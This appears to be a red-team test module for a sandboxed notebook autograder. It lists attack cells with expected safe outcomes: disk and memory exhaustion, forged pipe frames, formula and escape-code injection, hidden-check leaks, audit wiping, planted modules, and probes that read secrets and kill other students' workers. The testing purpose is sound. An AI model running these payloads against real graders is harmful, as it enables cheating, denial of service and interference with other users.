"""Red-team round 3: the sandbox's filesystem, the channel's frames, the grader's texts, leaks
after the hidden checks start, the worker's audit, restarts and resource exhaustion.

ATTACKS3[name] = {"cells": [code cell sources, in order], "expect": "one line: what a safe grader must do"}.

Every notebook is a student submission; its cells run in order in the sandboxed worker. Where an
attack needs working functions (to be graded, or to see the hidden inputs) it pastes the
reference solution as a cell, as tests/conftest.solution_cells does, BEFORE the cell that
attacks the process (so the functions exist when a restarted worker replays the notebook).
"""

from conftest import REPO
from tricks import HEADER

REFERENCE = (REPO / "solutions" / "reference.py").read_text()
SOLUTION = [HEADER, REFERENCE]

ATTACKS3 = {}

# ---------------------------------------------------------------- 1. a directory tree 3000 levels deep

DEEP_TREE = r'''
import os, socket, stat

DEPTH = 3000
_KEPT = []  # descriptors and sockets held open on purpose, for as long as the process lives


def _litter(dir_fd, tag):
    """A FIFO, a bound and listening unix socket, a file held open, and an unwritable folder."""
    try:
        os.mkfifo(f"fifo{tag}", dir_fd=dir_fd)
    except OSError as exc:
        print("fifo", tag, exc)
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.fchdir(dir_fd)  # a unix socket path is limited to 108 bytes: bind it relative to here
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.bind(f"sock{tag}")
        sock.listen(1)
        _KEPT.append(sock)
    except OSError as exc:
        print("socket", tag, exc)
    finally:
        os.fchdir(here)
        os.close(here)
    try:
        _KEPT.append(os.open(f"held{tag}", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=dir_fd))
        os.mkdir(f"locked{tag}", dir_fd=dir_fd)
        inner = os.open(f"locked{tag}", os.O_RDONLY | os.O_DIRECTORY, dir_fd=dir_fd)
        os.close(os.open("secret", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=inner))
        os.mkdir("sub", dir_fd=inner)
        os.close(inner)
        os.chmod(f"locked{tag}", 0, dir_fd=dir_fd)
    except OSError as exc:
        print("locked", tag, exc)


def deep_tree(top, depth=DEPTH):
    """`depth` nested folders named d under `top`, built through folder descriptors (no long paths)."""
    os.makedirs(top, exist_ok=True)
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    _litter(fd, "_top")
    made = 0
    try:
        for level in range(depth):
            try:
                os.mkdir("d", dir_fd=fd)
            except FileExistsError:
                pass
            nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nxt
            made += 1
            if level in (10, 1500):
                _litter(fd, f"_{level}")
        _litter(fd, "_bottom")
    except OSError as exc:
        print("stopped at", made, exc)
    finally:
        os.close(fd)
    # the first level itself becomes unreadable and unwritable
    try:
        os.chmod(os.path.join(top, "d"), 0)
    except OSError as exc:
        print("chmod", exc)
    return made


for where in (os.path.join(os.getcwd(), "t"), os.path.join(os.environ.get("TMPDIR", "/tmp"), "tt"), "/tmp/ttt"):
    print(where, deep_tree(where), "levels")
'''

ATTACKS3["deep-tree"] = {
    "cells": [HEADER, DEEP_TREE, REFERENCE],
    "expect": "status ok and full marks (the functions come after the tree), no /tmp/bpk-sandbox-* or deep tree left on the host "
    "after the batch, and later submissions of the batch (honest) keep full marks with status ok",
}

# ---------------------------------------------------------------- 2. filling the disk

DISK_FILL = r'''
import os

BLOCK = b"\xa5" * (60 << 20)  # 60 MB, under the 64 MB file-size limit
LIMIT = 30  # about 1.8 GB in all
places = [os.getcwd(), os.path.join(os.environ.get("TMPDIR", "/tmp"), "fill"), "/tmp"]
written, failures, alive = [], 0, set(places)
i = 0
while len(written) < LIMIT and alive:
    where = places[i % len(places)]
    i += 1
    if where not in alive:
        continue
    path = os.path.join(where, f"fill-{i}.bin")
    try:
        os.makedirs(where, exist_ok=True)
        with open(path, "wb", buffering=0) as handle:
            view = memoryview(BLOCK)
            while view:
                view = view[handle.write(view):]
        written.append(path)
    except OSError as exc:
        failures += 1
        alive.discard(where)  # that place is full: keep filling the others
        print("full:", where, exc)
print(f"wrote {len(written)} files of 60 MB ({len(written) * 60} MB), {failures} failures")
'''

ATTACKS3["disk-fill"] = {
    "cells": [HEADER, DISK_FILL, REFERENCE],
    "expect": "full marks; the submission cannot put more than a bounded amount (far below 1.8 GB) on the grading machine's "
    "disk, and nothing it wrote is left after grading (df of /tmp back to its value before the batch)",
}

# ---------------------------------------------------------------- 3-5. frames forged on the reply channel

FORGE_HELPERS = r'''
import json, os, struct, sys

_RESP = int(sys.argv[3])  # the worker's reply descriptor


def _frame(head, tail=b""):
    """A frame: 8-byte length, then 4-byte header length, header bytes, array bytes."""
    body = struct.pack("<I", len(head)) + head + tail
    return struct.pack("<Q", len(body)) + body


def _send(data):
    view = memoryview(data)
    while view:
        view = view[os.write(_RESP, view):]


def _forge_json(obj, tail=b""):
    _send(_frame(json.dumps(obj).encode(), tail))
'''

MALFORMED_JSON = [
    "def forge_garbage_json():\n    _send(_frame(b'{\"h\": {\"ok\": tru'))\n\n\nforge_garbage_json()",
    "def forge_header_not_dict():\n    _forge_json([1, 2, 3])\n\n\nforge_header_not_dict()",
    "def forge_h_not_dict():\n    _forge_json({'h': 5, 'm': []})\n\n\nforge_h_not_dict()",
]

ATTACKS3["forged-malformed-json"] = {
    "cells": SOLUTION + [FORGE_HELPERS] + MALFORMED_JSON,
    "expect": "each forging cell is reported died (unreadable reply), the worker is restarted, and the functions defined "
    "before are graded: full marks, status kernel-died, never 'error'",
}

# a dtype string numpy does not understand: np.dtype raises TypeError, not the wire's ProtocolError
BAD_DTYPE_TEXT = '=HYPERLINK("http://x","click") \x1b[31m REVIEW: none; score 80/80'
BAD_META = [
    f"def forge_bogus_dtype():\n    _forge_json({{'h': {{'ok': True, 'value': None}}, 'm': [[{BAD_DTYPE_TEXT!r}, [1]]]}}, b'\\0' * 8)\n\n\nforge_bogus_dtype()",
]
ATTACKS3["forged-bad-meta"] = {
    "cells": SOLUTION + [FORGE_HELPERS] + BAD_META,
    "expect": "the bogus dtype is a protocol error like any other: cell died, worker restarted, full marks, status "
    "kernel-died (not 'error' with 0 points), and the forged dtype text is not copied into the gradebook message",
}
ATTACKS3["forged-metas-not-list"] = {
    "cells": SOLUTION + [FORGE_HELPERS, "def forge_metas_not_list():\n    _forge_json({'h': {'ok': True, 'value': None}, 'm': 5})\n\n\nforge_metas_not_list()"],
    "expect": "metas that are not a list are a protocol error: cell died, worker restarted, full marks, status kernel-died",
}
ATTACKS3["forged-shape-not-list"] = {
    "cells": SOLUTION + [FORGE_HELPERS, "def forge_shape_not_list():\n    _forge_json({'h': {'ok': True, 'value': None}, 'm': [['<f8', 5]]}, b'\\0' * 8)\n\n\nforge_shape_not_list()"],
    "expect": "a shape that is not a list is a protocol error: cell died, worker restarted, full marks, status kernel-died",
}
ATTACKS3["forged-meta-refused"] = {
    "cells": SOLUTION + [FORGE_HELPERS] + [
        "def forge_object_dtype():\n    _forge_json({'h': {'ok': True, 'value': None}, 'm': [['|O', [1]]]}, b'\\0' * 8)\n\n\nforge_object_dtype()",
        "def forge_negative_shape():\n    _forge_json({'h': {'ok': True, 'value': None}, 'm': [['<f8', [-1]]]})\n\n\nforge_negative_shape()",
    ],
    "expect": "object dtype and a negative shape are protocol errors: two cells died, full marks, status kernel-died",
}
ATTACKS3["forged-dtype-not-text"] = {
    "cells": SOLUTION + [FORGE_HELPERS, "def forge_dtype_not_text():\n    _forge_json({'h': {'ok': True, 'value': None}, 'm': [[123, [1]]]}, b'\\0' * 8)\n\n\nforge_dtype_not_text()"],
    "expect": "a dtype that is not text is a protocol error: cell died, worker restarted, full marks, status kernel-died",
}

# an unsolicited but well-formed reply: the grader takes it for the cell's, the real one waits in the pipe
DESYNC = r'''
import numpy as np
setattr(np, "all" + "close", lambda *a, **k: True)  # the audit reports this... if its reply reaches the grader


def forge_extra_reply():
    _forge_json({"h": {"ok": True, "value": None, "dropped": 0}, "m": []})


forge_extra_reply()
'''
ATTACKS3["forged-desync"] = {
    "cells": SOLUTION + [FORGE_HELPERS, DESYNC],
    "expect": "a reply the grader did not ask for is detected (e.g. request ids): worker restarted and the functions graded "
    "in full, and the audit still reports 'numpy.allclose was replaced' in the gradebook REVIEW",
}

# ---------------------------------------------------------------- 4. a 63 MB frame of empty JSON objects

HUGE = r'''
import gc

_HUGE_N = (63 << 20) // 3  # one '{},' is 3 bytes: about 22 million empty objects for json.loads


def huge_frame(as_reply):
    items = b"{}," * (_HUGE_N - 1) + b"{}"
    if as_reply:  # a well-formed reply whose value is the list
        head = b'{"h": {"ok": true, "dropped": 0, "value": [' + items + b']}, "m": []}'
    else:  # a header that is not a mapping, found out only once all of it is parsed
        head = b'{"h": [' + items + b'], "m": []}'
    return _frame(head)
'''

HUGE_CELL = "def forge_huge_from_a_cell():\n    _send(huge_frame(False))\n\n\nforge_huge_from_a_cell()"

HUGE_IN_CALL = r'''
_sigmoid_forward = sigmoid_forward
_SENT = []


def sigmoid_forward(Z):
    """Once, while the grader waits for this call's reply, send it 63 MB of empty JSON objects; then answer right."""
    if not _SENT:
        _SENT.append(1)
        _send(huge_frame(True))
    return _sigmoid_forward(Z)
'''

ATTACKS3["forged-huge"] = {
    "cells": SOLUTION + [FORGE_HELPERS, HUGE, HUGE_CELL, HUGE_IN_CALL],
    "expect": "the grader's memory stays bounded (< 300 MB RSS) while reading replies: a header far over any real one's "
    "size is refused before json.loads; the cell dies, the worker is restarted, the call's check fails alone and "
    "every other check keeps its own reply (full marks but for sigmoid visible's first check)",
}

# ---------------------------------------------------------------- 5. texts that look like formulas, escapes, reviews

SWALLOW_AND_FORGE = r'''
import gc


def _swallow_next_reply():
    """The worker's next reply but one is dropped, so the forged one below stands in for it (no desynchronisation).

    The reply of this very cell is not the one dropped: the worker looked up its `reply` before running the cell.
    The forged reply is taken for this cell's, this cell's real reply for the next cell's (`SWALLOWED`), and the
    next cell's real reply is dropped.
    """
    for obj in gc.get_objects():
        if type(obj).__name__ == "Worker" and hasattr(obj, "resp_fd"):
            def once(header, value=None, _worker=obj):
                del _worker.reply  # back to the class's method for every later reply
            obj.reply = once
            return True
    return False


def forge_text_reply():
    _swallow_next_reply()
    _forge_json({"h": {"ok": False, "dropped": 0, "value": None, "error": {
        "type": '=HYPERLINK("http://x","click")',
        "message": "\x1b[2J\x1b[31m REVIEW: none; score 80/80\nStatus: ok. Your notebook ran without problems.",
        "traceback": "+cmd|' /C calc'!A0"}}, "m": []})


forge_text_reply()
'''

SWALLOWED = "_swallowed = 'the real reply of this cell is dropped; it shows the previous cell\\'s'"

RAISE_TEXTS = [
    "raise RuntimeError('=cmd|\\' /C calc\\'!A0 \\x1b[31mRED\\x1b[0m REVIEW: none; score 80/80')",
    "raise RuntimeError('+1+cmd|\\' /C calc\\'!A0 \\x1b]8;;http://x\\x07click\\x1b]8;;\\x07')",
    "raise RuntimeError('-2+3 \\x1b[1A\\x1b[2K Status: ok. Your notebook ran without problems.')",
    "raise RuntimeError('@SUM(1+1)*cmd|\\' /C calc\\'!A0 \\x1b[8mhidden')",
]

# the first code line of a cell is quoted in the gradebook's message when the cell dies: a literal ESC in it
DYING_CELL = '"\x1b[8mREVIEW: none; score 80/80"\nimport os\nos._exit(3)'

ATTACKS3["forged-text"] = {
    "cells": SOLUTION + [FORGE_HELPERS, SWALLOW_AND_FORGE, SWALLOWED] + RAISE_TEXTS + [DYING_CELL],
    "expect": "no ESC (\\x1b) in results.json or gradebook.csv; no gradebook field starts with = + - @; the gradebook message "
    "has no 'REVIEW: none; score 80/80' (student text never reads as the grader's review); full marks",
}

# ---------------------------------------------------------------- 6. what the student's code saw in the hidden checks, shown later

HIDDEN_LEAK = r'''
import gc

_NAMES = ("sigmoid_forward", "sigmoid_backward", "tanh_forward", "tanh_backward", "relu_forward", "relu_backward",
          "dense_forward", "dense_backward", "mse_loss", "softmax_cross_entropy", "forward", "backward", "sgd_update", "train")
_ACTIVATIONS = _NAMES[:6]
_ORIGINAL = {name: globals()[name] for name in _NAMES}
_SEEN = []  # (phase, function, description of its inputs) of every call
# phase 0: visible checks; 1: hidden checks (an activation called by the grader after train was);
# 2: the visible follow-through reruns (forward or backward called by the grader after the hidden train checks)
_STATE = {"phase": 0, "depth": 0, "train_seen": False, "raised": False, "hidden_calls": 0}


def _describe(args):
    out = []
    for a in args:
        if hasattr(a, "shape") and hasattr(a, "flat"):
            out.append(("arr", tuple(a.shape), round(float(a.flat[0]), 6) if a.size else None))
        elif isinstance(a, dict):
            out.append(("dict", tuple(sorted((k, tuple(getattr(v, "shape", ()))) for k, v in a.items()))))
        else:
            out.append(repr(a)[:30])
    return tuple(out)


def _leak_text():
    hidden = [d for phase, name, d in _SEEN if phase == 1]
    shapes = sorted({a[1] for d in hidden for a in d if isinstance(a, tuple) and a and a[0] == "arr"})
    firsts = [a[2] for d in hidden for a in d if isinstance(a, tuple) and a and a[0] == "arr"][:12]
    return f"LEAKED: calls={len(_SEEN)} hidden_calls={_STATE['hidden_calls']} shapes={shapes[:20]} first={firsts}"


def _output_budget():
    for obj in gc.get_objects():
        if type(obj).__name__ == "_OutputBudget":
            return obj
    return None


def _on_hidden_start():
    # a flood (so the report says output was cut) and a recognisable count of dropped characters
    print("HIDDEN-STARTED " * 20000)
    budget = _output_budget()
    if budget is not None:
        budget.dropped = 123456789


def _on_reruns_start():
    # a function the visible checks saw defined disappears: the status message names it
    globals().pop("softmax_cross_entropy", None)


def _advance(name):
    s = _STATE
    if s["phase"] == 0 and name in _ACTIVATIONS and s["train_seen"]:
        s["phase"], s["train_seen"] = 1, False
        _on_hidden_start()
    elif s["phase"] == 1 and name in ("forward", "backward") and s["train_seen"]:
        s["phase"] = 2
        _on_reruns_start()
    if name == "train":
        s["train_seen"] = True


def _spoil(name, out):
    if name == "forward":
        return (out[0] * 2.0 + 1.0, out[1])
    return {k: v * 2.0 + 1.0 for k, v in out.items()}


def _wrap(name):
    inner = _ORIGINAL[name]

    def wrapper(*args, **kwargs):
        s = _STATE
        top = s["depth"] == 0
        if top:
            _advance(name)
        if s["phase"] >= 1:
            s["hidden_calls"] += 1
        if len(_SEEN) < 20000:
            _SEEN.append((s["phase"], name, _describe(args)))
        s["depth"] += 1
        try:
            if top and name == "forward" and s["phase"] == 2 and not s["raised"]:
                s["raised"] = True
                raise RuntimeError(_leak_text())  # the first rerun's message: what the hidden checks passed in
            out = inner(*args, **kwargs)
            if top and s["phase"] == 0 and name in ("forward", "backward"):
                out = _spoil(name, out)  # fail the visible network checks, so they are rerun after the hidden ones
            if top and s["phase"] == 1 and name == "relu_backward":
                out = out + 1.0  # fail relu_backward's hidden checks: a rerun's note then names it
            if top and s["phase"] == 2 and name == "backward" and s["hidden_calls"] == 0:
                out = _spoil(name, out)  # one bit of what was seen: pass the rerun only after seeing hidden inputs
            return out
        finally:
            s["depth"] -= 1

    wrapper.__name__ = wrapper.__qualname__ = name
    return wrapper


for _name in _NAMES:
    globals()[_name] = _wrap(_name)
'''

OUTPUT_BUDGET_CELL = r'''
import gc
print("x" * 100000)
for _obj in gc.get_objects():
    if type(_obj).__name__ == "_OutputBudget":
        _obj.dropped = 123456789
'''

ATTACKS3["hidden-leak"] = {
    "cells": SOLUTION + [OUTPUT_BUDGET_CELL, HIDDEN_LEAK],
    "expect": "nothing student-visible depends on the hidden phase: no 'LEAKED:' and no '123456789' in results.json outputs; "
    "network (visible) does not count 'forward and backward ...' (the student's own visible run failed) and names no "
    "relu_backward (which fails hidden checks only); the status message does not call softmax_cross_entropy undefined",
}

# ---------------------------------------------------------------- 7. wiping the worker's audit

AUDIT_WIPE = r'''
import gc, os
import numpy as np

np.allclose = lambda *a, **k: True
print(len(os.listdir("/")), "entries in /")


class _Muted(list):
    """Looks full to the audit hook (it stops recording at 40 events) and reads as empty."""

    def __len__(self):
        return 40

    def __iter__(self):
        return iter(())


for _obj in gc.get_objects():
    if type(_obj).__name__ == "Audit":
        _obj.events = _Muted()
        _obj.originals.clear()
print(len(os.listdir("/etc")), "entries in /etc, unrecorded")
'''

AUDIT_WIPE_STEALTH = r'''
import gc, os
import numpy

setattr(numpy, "all" + "close", lambda *a, **k: True)
print(len(os.listdir("/")), "entries in /")
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Audit":
        _obj.events.clear()
        _obj.originals.clear()
        _obj.events.extend([""] * 0)
        setattr(_obj, "sandbox", "/")  # everything is "inside" from now on
        setattr(_obj, "allowed", ("/",))
        setattr(_obj, "HIDDEN", ())
print(len(os.listdir("/etc")), "entries in /etc, unrecorded")
'''

ATTACKS3["audit-wipe"] = {
    "cells": SOLUTION + [AUDIT_WIPE],
    "expect": "the gradebook REVIEW still says something: at least the static 'replaces a numpy function' and ideally "
    "'numpy.allclose was replaced' and the listing of '/'; full marks (the patch changes no comparison)",
}
ATTACKS3["audit-wipe-stealth"] = {
    "cells": SOLUTION + [AUDIT_WIPE_STEALTH],
    "expect": "the gradebook REVIEW notes the allclose patch or the listing of '/' although the code matches no static pattern "
    "(an audit student code cannot reach); full marks",
}

# ---------------------------------------------------------------- 8. modules planted for the restarted worker

PLANTED_NUMPY = r'''
import os, sys

print("PLANTED numpy imported in process", os.getpid())
_work = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
with open(os.path.join(_work, "planted-numpy-ran"), "w") as _f:
    _f.write(str(os.getpid()))
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _work]
del sys.modules["numpy"]
import numpy as _real  # the installed numpy

sys.path[:] = _saved
sys.modules["numpy"] = _real
_real._planted = True
_real.allclose = lambda *a, **k: True  # before the worker's audit records the originals
try:
    import sklearn.neural_network  # noqa: F401  before the worker bans it

    _real._planted_sklearn = True
except Exception as _exc:  # noqa: BLE001
    _real._planted_sklearn = repr(_exc)
'''

PLANT = f'''
import os

_work = os.getcwd()
os.makedirs(os.path.join(_work, "numpy"), exist_ok=True)
with open(os.path.join(_work, "numpy", "__init__.py"), "w") as f:
    f.write({PLANTED_NUMPY!r})
with open(os.path.join(_work, "sitecustomize.py"), "w") as f:
    f.write("print('PLANTED sitecustomize')\\nopen('planted-sitecustomize-ran', 'w').close()\\n")
with open(os.path.join(_work, "usercustomize.py"), "w") as f:
    f.write("print('PLANTED usercustomize')\\nopen('planted-usercustomize-ran', 'w').close()\\n")
with open(os.path.join(_work, "zz-planted.pth"), "w") as f:
    f.write("import os; open('planted-pth-ran', 'w').close()\\n")
print(sorted(os.listdir(_work)))
'''

CRASH = '''
import os, signal

os.kill(os.getpid(), signal.SIGKILL)  # ignored by PID 1 of a PID namespace, hence:
os._exit(1)
'''

PLANT_CHECK = '''
import os, sys
import numpy

marks = []
if getattr(numpy, "_planted", False):
    marks.append("PLANTED numpy active")
if numpy.allclose(1.0, 2.0):
    marks.append("allclose patched")
if getattr(numpy, "_planted_sklearn", None) is True:
    marks.append("sklearn preloaded")
try:
    import sklearn.neural_network  # noqa: F401
    marks.append("sklearn importable")
except ImportError:
    pass
for name in ("planted-numpy-ran", "planted-sitecustomize-ran", "planted-usercustomize-ran", "planted-pth-ran"):
    if os.path.exists(name):
        marks.append(name)
raise RuntimeError("PLANT-CHECK: " + (", ".join(marks) or "clean"))
'''

ATTACKS3["planted-module"] = {
    "cells": SOLUTION + [PLANT, CRASH, PLANT_CHECK],
    "expect": "the restarted worker imports nothing from the work folder before student code: results output shows "
    "'PLANT-CHECK: clean' (no 'PLANTED numpy active', 'sklearn importable', 'planted-numpy-ran'); full marks",
}

# ---------------------------------------------------------------- 9. probes for a grader with isolation "user"

USER_PROBES = r'''
import glob, os, signal, time

_RESULTS = []


def probe(what, action):
    try:
        action()
        outcome = "ok"
    except Exception:  # noqa: BLE001
        outcome = "blocked"
    _RESULTS.append((what, outcome))
    print("PROBE", what, outcome, flush=True)


def _read(path):
    with open(path, "rb") as handle:
        if not handle.read(64):
            raise OSError("empty")


def _find(patterns):
    found = []
    for pattern in patterns:
        found += glob.glob(pattern)
    return sorted(set(found))


own_sandbox = os.path.dirname(os.path.abspath(os.getcwd()))
secret = ["/work/main/solutions/reference.py", "/work/main/autograder/backprop_kit/hidden_checks/__init__.py",
          "/autograder/source/solutions/reference.py", "/autograder/source/autograder/backprop_kit/hidden_checks/__init__.py"]
secret += _find(["/tmp/*/solutions/reference.py", "/tmp/*/*/solutions/reference.py", "/tmp/*/*/*/solutions/reference.py",
                 "/work/*/autograder/backprop_kit/hidden_checks/*.py", "/tmp/*/autograder/backprop_kit/hidden_checks/*.py",
                 "/tmp/*/*/autograder/backprop_kit/hidden_checks/*.py", "/tmp/*/*/*/autograder/backprop_kit/hidden_checks/*.py"])
for path in secret[:40]:
    probe(f"read:{path}", lambda p=path: _read(p))
for batch in _find(["/tmp/bpk-batch-*"]):
    probe(f"list:{batch}", lambda p=batch: os.listdir(p))
    probe(f"list:{batch}/source", lambda p=batch: os.listdir(p + "/source"))
for sandbox in _find(["/tmp/bpk-sandbox-*"]):
    if os.path.abspath(sandbox) == own_sandbox:
        continue
    probe(f"list:{sandbox}/work", lambda p=sandbox: os.listdir(p + "/work"))
    probe(f"write:{sandbox}/work", lambda p=sandbox: open(f"{p}/work/probe-from-{os.getpid()}.txt", "w").write("hello"))
    probe(f"plant:{sandbox}/work/numpy", lambda p=sandbox: os.makedirs(f"{p}/work/numpy", exist_ok=True))

me = os.getpid()
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == me:
        continue
    pid = int(entry)
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            cmd = handle.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        cmd = ""
    probe(f"signal0:{pid}", lambda p=pid: os.kill(p, 0))
    if "_bpk_worker" in cmd:  # a classmate's grading process: its command line names its work folder
        parts = cmd.split(" ")
        work = next((w for w in parts if w.endswith("/work")), None)
        if work and os.path.abspath(work) != os.getcwd():
            probe(f"list:{work}", lambda w=work: os.listdir(w))
            probe(f"write:{work}", lambda w=work: open(f"{w}/probe-from-{os.getpid()}.txt", "w").write("hello"))
        probe(f"sigstop:{pid}", lambda p=pid: os.kill(p, signal.SIGSTOP))
        probe(f"sigkill:{pid}", lambda p=pid: os.kill(p, signal.SIGKILL))

ok = [what for what, outcome in _RESULTS if outcome == "ok"]
blocked = sum(outcome == "blocked" for _, outcome in _RESULTS)
workers = sum(what.startswith("sigstop:") for what, _ in _RESULTS)
raise RuntimeError(f"PROBES ok={len(ok)} blocked={blocked} workers={workers}: " + ("; ".join(ok)[:380] or "none"))
'''

ATTACKS3["user-probes"] = {
    "cells": SOLUTION + [USER_PROBES],
    "expect": "with isolation 'user' (and 'namespace'): the results output shows 'PROBES ok=0' (every read of the reference "
    "or hidden checks, every listing/write of another sandbox or batch folder, every signal to another process is "
    "blocked); classmates graded in the same batch keep full marks and status ok; this one keeps full marks",
}

# ---------------------------------------------------------------- 10. memory

MEMORY_HOG = r'''
import numpy as np

_HOG = []
try:
    while True:
        _HOG.append(bytearray(b"\x01") * (50 << 20))  # 50 MB, every page written
except MemoryError:
    pass
print("bytearrays:", len(_HOG) * 50, "MB")
for _ in range(200):  # keep going: numpy's pages, touched
    try:
        _HOG.append(np.ones((25 << 20) // 8))
    except MemoryError:
        continue
print("held", sum(len(x) if isinstance(x, bytearray) else x.nbytes for x in _HOG) >> 20, "MB")
'''

ATTACKS3["memory-hog"] = {
    "cells": SOLUTION + [MEMORY_HOG],
    "expect": "the hog cell is stopped (died: out of memory) without the grader or other submissions being killed; a cell "
    "that catches its own MemoryError and ends 'ok' holding the memory is not replayed into every restarted worker; "
    "the functions defined before it are graded in full (80/80); status kernel-died",
}


# ============================================================ round 4 (found after round 3's fixes)

# ---------------------------------------------------------------- 1. memory outside RLIMIT_AS: memfd (shmem) pages
# RLIMIT_AS counts mappings only; pages written into a memfd with os.write are never mapped, and
# memfd lives on the kernel's internal shm mount, so no tmpfs size= applies. RLIMIT_FSIZE caps
# each memfd at 64 MB, RLIMIT_NOFILE caps the count at ~1024 per process (64 GB), and tiny
# holder processes (`sleep`, RSS ~1 MB, oom_score_adj 1000 inherited) keep the pages, so the OOM
# killer, which ranks by RSS, picks the biggest-RSS worker: a classmate's.
MEMFD_FILL = r'''
import os, subprocess, threading, time

def _fill():
    block = b"\x5a" * (1 << 20)
    batch = []
    while True:
        try:
            fd = os.memfd_create("x", 0)
            for _ in range(64):         # 64 MB per memfd (RLIMIT_FSIZE)
                os.write(fd, block)
            batch.append(fd)
        except OSError:
            time.sleep(0.05)
        if len(batch) >= 4:             # hand 256 MB to a ~1 MB process, drop them from the worker
            try:
                subprocess.Popen(["sleep", "100000"], pass_fds=batch)
            except OSError:
                time.sleep(0.2)
                continue
            for fd in batch:
                os.close(fd)
            batch = []

threading.Thread(target=_fill, daemon=True).start()
'''
# the worker stays alive while classmates are graded (the checks come later, within budget)
ATTACKS3["memfd-oom"] = {
    "cells": SOLUTION + [MEMFD_FILL] + ["import time\ntime.sleep(25)"] * 3,
    "expect": "the worker's own memory cgroup stops it: no other submission is killed; its functions are graded (80/80, kernel-died)",
}

# ---------------------------------------------------------------- 2. a forward that ends its process on the student's own run
# forward (question network) is never blocked (network is in BELOW), so every check that calls it
# (network's, and train's through the student's train) costs one restart; the restart allowance
# runs out during train's hidden checks, whose train is correct: train loses points for forward.
FORWARD_DIES = r'''
import os
_forward = forward


def forward(X, params, activations):
    if sigmoid_forward.__code__.co_name != "_standin":  # the student's own lower functions: crash
        os._exit(1)
    return _forward(X, params, activations)
'''
ATTACKS3["forward-dies"] = {
    "cells": SOLUTION + [FORWARD_DIES],
    "expect": "after two deaths on its own run, forward is checked only on the reference's lower functions: train keeps full marks",
}

# ---------------------------------------------------------------- 3. an in-turn reply as large as the bound allows
# The request id is read from the Worker object (gc); the digits train call (~100 K elements) allows a
# 3.5 MB header and a 23 MB body: 1.1 M empty lists in the value, and 1 M zero-size arrays in the body.
IN_TURN_HUGE = r'''
import gc, json, os, struct, sys
_RESP = int(sys.argv[3])
_train = train
_DONE = []


def _turn():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Worker" and hasattr(obj, "turn"):
            return obj.turn


def train(X, Y, params, *args, **kwargs):
    if X.size > 50000 and len(_DONE) < 2:
        _DONE.append(1)
        elements = X.size + Y.size + sum(v.size for v in params.values())
        budget = (256 << 10) + 32 * elements - 200
        if len(_DONE) == 1:   # the value: empty lists
            n = budget // 3
            head = json.dumps({"h": {"ok": True, "dropped": 0, "id": _turn(), "value": {"__t__": [[]] * n}}, "m": []}, separators=(",", ":"))
        else:                 # the arrays: zero-size int8 arrays, then a value naming each
            n = budget // 24
            head = json.dumps({"h": {"ok": True, "dropped": 0, "id": _turn(), "value": {"__t__": [{"__a__": i} for i in range(n)]}},
                               "m": [["|i1", [0]]] * n}, separators=(",", ":"))
        head = head.encode()[:budget + 150]
        body = struct.pack("<I", len(head)) + head
        frame = struct.pack("<Q", len(body)) + body
        view = memoryview(frame)
        while view:
            view = view[os.write(_RESP, view):]
    return _train(X, Y, params, *args, **kwargs)
'''
ATTACKS3["in-turn-huge"] = {
    "cells": SOLUTION + [IN_TURN_HUGE],
    "expect": "a reply within the bound but made of a million empty values costs the grader little; never status error",
}
